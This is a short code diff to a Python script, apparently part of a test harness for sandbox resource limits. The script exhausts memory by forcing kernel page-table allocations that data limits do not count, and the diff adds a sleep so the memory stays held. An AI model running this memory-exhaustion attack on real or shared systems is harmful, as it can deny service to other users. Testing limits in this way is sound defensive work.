@@ -2,9 +2,10 @@
 
 import ctypes
 import mmap
+import time
 
 from attempt import LIBC, attempt
-from bot import play, setting
+from bot import LOOKED_AT_S, play, setting
 
 # One look costs 4 KiB of page table; private memory that can't be written is counted by no limit on data.
 STEP, TABLE, PIECE = 2 << 20, 4 << 10, 16 << 30
@@ -22,6 +23,7 @@ def attack() -> None:
         LIBC.madvise(piece, PIECE, 15)  # No huge pages: those need no tables.
         for at in range(piece, piece + PIECE, STEP):
             ctypes.c_char.from_address(at).value  # noqa: B018 - reading it is the attack
+    time.sleep(LOOKED_AT_S)
 
 
 play(lambda: attempt("hold memory in page tables", attack))
